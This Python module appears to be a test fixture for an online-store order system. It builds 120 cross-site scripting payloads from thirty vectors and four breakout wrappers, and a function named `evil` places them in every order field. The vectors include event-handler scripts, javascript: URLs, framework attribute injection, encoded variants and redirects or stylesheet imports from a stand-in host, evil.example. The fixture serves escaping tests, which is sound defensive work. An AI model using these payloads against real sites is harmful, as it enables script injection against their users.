"""A hundred and twenty texts that would run, or break out, where text is taken for markup."""

from __future__ import annotations

from typing import Any, Final

MARK: Final = "xss"
VECTORS: Final = (
    "<script id=xss>alert(1)</script>",
    "<img id=xss src=x onerror=alert(1)>",
    "<svg id=xss onload=alert(1)>",
    "<iframe id=xss srcdoc='<script>alert(1)</script>'>",
    "<a id=xss href=javascript:alert(1)>x</a>",
    "<details id=xss open ontoggle=alert(1)>",
    "<video id=xss src=x onerror=alert(1)>",
    "<body id=xss onload=alert(1)>",
    "<input id=xss autofocus onfocus=alert(1)>",
    "<marquee id=xss onstart=alert(1)>",
    "<object id=xss data=javascript:alert(1)>",
    "<embed id=xss src=javascript:alert(1)>",
    "<base id=xss href=//evil.example/>",
    "<meta id=xss http-equiv=refresh content=0;url=//evil.example>",
    "<link id=xss rel=stylesheet href=//evil.example/x.css>",
    "<style id=xss>@import '//evil.example/x.css'</style>",
    "<form id=xss action=//evil.example><button>x</button></form>",
    "<math><mtext><img id=xss src=x onerror=alert(1)></mtext></math>",
    "<div id=xss x-data x-init=alert(1)>",
    "<div id=xss x-data='{a:alert(1)}' x-html=a>",
    "<template id=xss><script>alert(1)</script></template>",
    "<!--><img id=xss src=x onerror=alert(1)>-->",
    "<![CDATA[><img id=xss src=x onerror=alert(1)>]]>",
    "&lt;img id=xss src=x onerror=alert(1)&gt;",
    "&#60;img id=xss src=x onerror=alert(1)&#62;",
    "\\u003cimg id=xss src=x onerror=alert(1)\\u003e",
    "{{7*7}}{% raw %}<b id=xss>",
    "${alert(1)}`<b id=xss>`",
    "javascript:alert(1)//<b id=xss>",
    "＜img id=xss src=x onerror=alert(1)＞<b id=xss>",
)
WRAPPED: Final = ("{}", "\"'>{}", "</script></title>{}", "' x-init=alert(1) a=\"{}")
PAYLOADS: Final = tuple(wrap.replace("{}", vector) for wrap in WRAPPED for vector in VECTORS)
LINES_OF_AN_ORDER: Final = 40


def evil(bar: int, number: int, payload: str) -> dict[str, Any]:
    """The first orders have so many lines that each payload is one."""
    first = number * LINES_OF_AN_ORDER
    lined = PAYLOADS[first : first + LINES_OF_AN_ORDER] or [payload]
    return {
        "location": bar,
        "source": "online_store",
        "external_id": f"{number}{payload}"[:80],
        "customer": {"name": payload, "email": f"guest{number}@guests.example"},
        "destination": payload,
        "instructions": payload,
        "payment": {"method": payload[:80]},
        "lines": [
            {
                "name": text,
                "sku": text[:80],
                "quantity": 1,
                "unit_price": 100,
                "note": text,
                "modifiers": [{"name": text}],
            }
            for text in lined
        ],
    }
